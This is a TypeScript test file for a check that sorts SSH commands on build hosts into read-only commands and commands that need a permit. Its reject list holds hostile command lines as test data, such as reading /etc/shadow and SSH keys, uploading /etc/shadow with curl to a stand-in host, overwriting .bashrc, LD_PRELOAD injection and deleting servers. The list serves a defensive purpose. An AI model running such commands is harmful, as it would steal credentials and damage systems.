import assert from "node:assert/strict";
import test from "node:test";
import { isReadOnly } from "#src/systems/ssh/read-only.ts";

const looks: readonly (readonly string[])[] = [
  ["true"],
  ["docker", "ps", "--all", "--no-trunc", "--format", "{{json .}}"],
  ["docker", "ps", "--filter=name=mesos-master", "-q"],
  ["docker", "inspect", "--format", "{{.State.Running}}", "mesos-master"],
  ["docker", "info"],
  ["cat", "/proc/sys/kernel/random/boot_id"],
  ["cat", "/proc/uptime"],
  ["df", "-P", "-k", "-l"],
  ["df", "--output=pcent,target", "/"],
  ["date", "+%s.%N"],
  ["ping", "-c", "1", "-W", "2", "alibuild07.cern.ch"],
  ["klist"],
  ["klist", "-s"],
  ["hostname", "-f"],
  ["test", "-e", "/opt/puppetlabs/puppet/cache/state/agent_catalog_run.lock"],
  ["stat", "-c", "%s", "/root/.mesos-console/mc-1"],
  ["ls", "-la", "/root/.mesos-console"],
  ["openstack", "token", "issue", "-f", "json"],
  ["openstack", "catalog", "list", "-f", "json"],
  ["openstack", "server", "show", "alibuild07", "-f", "json"],
  ["env", "-u", "OS_PROJECT_ID", "OS_PROJECT_NAME=ALICE Release Testing", "openstack", "token", "issue", "-f", "json"],
  [
    ...["curl", "--silent", "--show-error", "--negotiate", "-u", ":", "--max-time", "10"],
    ...["--header", "Accept: application/json, version=2", "--write-out", "\\n%{http_code}"],
    "https://judy.cern.ch:8443/api/hosts/alibuild07.cern.ch",
  ],
  ["curl", "-s", "-o", "/dev/null", "http://alimesos01.cern.ch:5050/health"],
  ["puppet", "config", "print", "--section", "agent", "ssldir"],
  ["uptime"],
];

const acts: readonly (readonly string[])[] = [
  [],
  ["reboot"],
  ["sh", "-c", "true"],
  ["/usr/bin/true"],
  ["docker", "restart", "mesos-master"],
  ["docker", "--host", "tcp://x", "ps"],
  ["docker", "ps", "--unknown"],
  ["docker", "image", "rm", "x"],
  ["docker", "inspect", "--help", "x"],
  ["docker"],
  ["cat", "/etc/shadow"],
  ["cat", "/proc/sys/kernel/random/boot_id", "/root/.ssh/id_rsa"],
  ["cat", "/proc/../etc/shadow"],
  ["date", "-s", "2020-01-01"],
  ["date", "01010101"],
  ["hostname", "alibuild03"],
  ["hostname", "-F", "/etc/hostname"],
  ["ping", "-f", "alibuild07"],
  ["ping", "-c", "1", "-I", "eth0", "alibuild07"],
  ["klist", "-k", "/etc/krb5.keytab"],
  ["ls", "-l", "--color=always", "/"],
  ["test", "-e", "relative"],
  ["openstack", "server", "delete", "alibuild03"],
  ["openstack", "server", "delete", "list"],
  ["openstack", "server", "reboot", "--hard", "show"],
  ["openstack", "--os-cloud", "other", "server", "list"],
  ["openstack", "token", "revoke", "x"],
  ["openstack", "credential", "show", "x"],
  ["env", "LD_PRELOAD=/tmp/x.so", "openstack", "token", "issue"],
  ["env", "PATH=/tmp", "true"],
  ["env", "-S", "reboot"],
  ["env", "-i", "true"],
  ["env", "OS_PROJECT_NAME=x"],
  ["env", "OS_PROJECT_NAME=x", "reboot"],
  ["env", "OS_PROJECT_NAME=x", "env", "true"],
  ["curl", "-X", "DELETE", "https://judy.cern.ch:8443/api/hosts/1"],
  ["curl", "-XDELETE", "https://judy.cern.ch:8443/api/hosts/1"],
  ["curl", "--request=POST", "http://x/"],
  ["curl", "-d", "a=b", "http://x/"],
  ["curl", "-T", "/etc/shadow", "http://x/"],
  ["curl", "-F", "a=b", "http://x/"],
  ["curl", "--json", "{}", "http://x/"],
  ["curl", "-o", "/root/.bashrc", "http://x/"],
  ["curl", "-O", "http://x/file"],
  ["curl", "-K", "/tmp/config"],
  ["curl", "-H", "X-HTTP-Method-Override: DELETE", "http://x/"],
  ["curl", "-H", "@/etc/shadow", "http://x/"],
  ["curl", "-w", "%output{/root/.bashrc}x", "http://x/"],
  ["curl", "-w", "@/etc/shadow", "http://x/"],
  ["curl", "file:///etc/shadow"],
  ["curl", "-sXPOST", "http://x/"],
  ["curl", "-u", "admin:password", "http://x/"],
  ["curl", "http://x/", "http://y/"],
  ["curl"],
  ["puppet", "agent", "-t", "-v"],
  ["puppet", "config", "set", "server", "x"],
  ["systemctl", "restart", "docker"],
  ["constructor"],
  ["docker", "constructor"],
];

test("what only looks needs no permit", () => {
  const refused = looks.filter((argv) => !isReadOnly({ argv }));
  assert.deepEqual(refused, []);
});

test("anything else does, above all what is not known", () => {
  const letThrough = acts.filter((argv) => isReadOnly({ argv }));
  assert.deepEqual(letThrough, []);
});

test("settings of a command may not change what it runs", () => {
  assert.ok(isReadOnly({ argv: ["klist"], env: { LC_ALL: "C", TZ: "UTC" } }));
  assert.ok(!isReadOnly({ argv: ["klist"], env: { LD_PRELOAD: "/tmp/x.so" } }));
  assert.ok(!isReadOnly({ argv: ["docker", "ps"], env: { DOCKER_HOST: "tcp://x" } }));
});
